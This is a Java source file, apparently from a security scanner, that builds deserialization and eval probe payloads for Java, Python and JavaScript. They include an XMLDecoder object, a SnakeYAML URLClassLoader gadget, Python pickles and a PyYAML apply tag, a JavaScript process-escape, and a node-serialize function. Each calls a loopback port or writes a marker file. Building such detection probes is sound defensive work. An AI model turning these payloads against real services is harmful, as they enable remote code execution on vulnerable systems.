// SPDX-License-Identifier: Apache-2.0
package dev.assay.probes.shipped;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.IOException;
import java.util.Base64;
import java.util.List;

/**
 * A value that does something when it is read carelessly.
 *
 * @param what it is, in words
 * @param trace what it leaves: in the first words of a call, or as the name of a file
 */
record RunWhenRead(String what, String trace, byte[] content) {

  private static RunWhenRead text(String what, String trace, String content) {
    return new RunWhenRead(what, trace, content.getBytes(UTF_8));
  }

  /**
   * One for each careless way of reading that is common in Java, Python and JavaScript.
   *
   * @param port what they call, on loopback
   * @param file the one that they leave in the working directory, if they cannot call
   */
  static List<RunWhenRead> calling(int port, String file) throws IOException {
    String at = "http://127.0.0.1:" + port;
    return List.of(
        new RunWhenRead("a serialised object of Java", "JRMI", CallingReference.to(port)),
        text(
            "an object of Java in XML",
            "/beans",
            "<java><object class=\"java.net.URL\"><string>%s/beans</string>".formatted(at)
                + "<void method=\"openStream\"/></object></java>"),
        text(
            "a class of Java in YAML",
            "/classes/",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                + " [[!!java.net.URL [\"%s/classes/\"]]]]".formatted(at)),
        text("a pickle of Python", file, "cio\nopen\n(S'%s'\nS'w'\ntR.".formatted(file)),
        text(
            "a pickle of Python",
            "/pickle",
            "curllib.request\nurlopen\n(S'%s/pickle'\ntR.".formatted(at)),
        text(
            "a call of Python in YAML",
            "/tag",
            "!!python/object/apply:urllib.request.urlopen [\"%s/tag\"]".formatted(at)),
        text(
            "an expression of Python",
            "/eval",
            "__import__(\"urllib.request\").request.urlopen(\"%s/eval\")".formatted(at)),
        text(
            "an expression of JavaScript",
            "/fetch",
            "fetch(\"%s/fetch\").catch(String)".formatted(at)),
        text(
            "an expression of JavaScript",
            "/process",
            "this.constructor.constructor(\"return process\")().mainModule.require(\"http\")"
                + ".get(\"%s/process\").on(\"error\",String)".formatted(at)),
        text(
            "a function of JavaScript in JSON",
            "/function",
            "{\"a\":\"_$$ND_FUNC$$_function(){fetch('%s/function').catch(String)}()\"}"
                .formatted(at)));
  }

  /** Sends it as it is, if it can be, and in both alphabets of Base64. */
  void to(Intake intake) {
    boolean isText = content[0] >= 0;
    if (intake.isBody()) {
      intake.send(content);
    } else if (isText) {
      intake.send(new String(content, UTF_8));
    }
    intake.send(Base64.getEncoder().encodeToString(content));
    intake.send(Base64.getUrlEncoder().encodeToString(content));
  }
}
